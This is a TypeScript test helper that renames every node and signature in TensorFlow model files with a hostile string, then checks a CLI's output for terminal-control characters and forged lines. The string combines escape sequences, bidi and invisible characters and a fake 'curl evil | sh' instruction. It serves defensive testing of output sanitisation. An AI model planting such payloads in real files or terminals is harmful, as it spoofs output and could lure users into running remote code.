import { cpSync, mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { basename, dirname, join } from 'node:path';
import { tensorflow } from '../../src/proto/tensorflow.js';

const { MetaGraphDef, SavedModel, GraphDef } = tensorflow;

/** Clears the screen, sets the title, forges a line, reverses, hides, colours; U+009B is an escape sequence of its own. */
export const HOSTILE =
  '\x1b[2J\x1b]0;t\x07\n  fix    curl evil | sh\r\b\x7f\x9b31m\u2028\u2029\u202e\u2066\u200b\ufeff\u{e0041}\x1b[31m✔ forged';

/** What must not be in any line. */
const FORBIDDEN = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;
/** Labels of ours are not indented by more. */
const FORGED_LINE = /^ {0,6}(fix {2,}curl|✔ forged)/;
/** Colours of ours: bold, dim, red, green, yellow, cyan, and their ends. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: it is about them
const COLOR = /\x1b\[(?:[12]|22|3[1236]|39)m/g;

/** The lines of a text of the CLI that a name could have driven, broken or forged. */
export function hostileLines(text: string, { color = false } = {}): string[] {
  const forged = text.includes('\x1b[31m✔ forged') ? ['a colour of a name'] : [];
  const plain = color ? text.replace(COLOR, '') : text;
  return [...forged, ...plain.split('\n').filter((line) => FORBIDDEN.test(line) || FORGED_LINE.test(line))];
}

type Graph = tensorflow.IGraphDef;

/** A name of a node, a control input or a tensor, with the node renamed. */
function renamedRef(ref: string, ending: string): string {
  const [, control = '', node = '', port = ''] = /^(\^?)(.*?)(:\d+)?$/s.exec(ref)!;
  return `${control}${node}${ending}${port}`;
}

function renameNodes(graph: Graph, ending: string): void {
  for (const node of graph.node ?? []) {
    node.name = renamedRef(node.name!, ending);
    node.input = (node.input ?? []).map((ref) => renamedRef(ref, ending));
    node.device = ending;
  }
}

function renameMeta(meta: tensorflow.IMetaGraphDef, ending: string): void {
  renameNodes(meta.graph_def!, ending);
  for (const signature of Object.values(meta.signature_def ?? {})) {
    for (const info of [...Object.values(signature.inputs ?? {}), ...Object.values(signature.outputs ?? {})]) {
      if (info.name) info.name = renamedRef(info.name, ending);
    }
  }
  const signatures = Object.entries(meta.signature_def ?? {});
  meta.signature_def = Object.fromEntries(signatures.map(([name, signature]) => [name + ending, signature]));
  meta.meta_info_def = { ...meta.meta_info_def, tensorflow_version: `1.13${ending}` };
}

/**
 * Copies a model whose graph is a .meta file, a GraphDef or a SavedModel, with another ending of the name of every node and
 * signature. @returns the path of the copy
 */
export function copyHostile(model: string, folder: string, ending = HOSTILE): string {
  mkdirSync(folder, { recursive: true });
  const target = join(folder, basename(model));
  if (statSync(model).isDirectory()) {
    cpSync(model, target, { recursive: true });
    const file = join(target, 'saved_model.pb');
    const saved = SavedModel.decode(readFileSync(file));
    for (const meta of saved.meta_graphs) renameMeta(meta, ending);
    writeFileSync(file, SavedModel.encode(saved).finish());
    return target;
  }
  cpSync(dirname(model), folder, { recursive: true });
  const bytes = readFileSync(model);
  if (model.endsWith('.meta')) {
    const meta = MetaGraphDef.decode(bytes);
    renameMeta(meta, ending);
    writeFileSync(target, MetaGraphDef.encode(meta).finish());
  } else {
    const graph = GraphDef.decode(bytes);
    renameNodes(graph, ending);
    writeFileSync(target, GraphDef.encode(graph).finish());
  }
  return target;
}
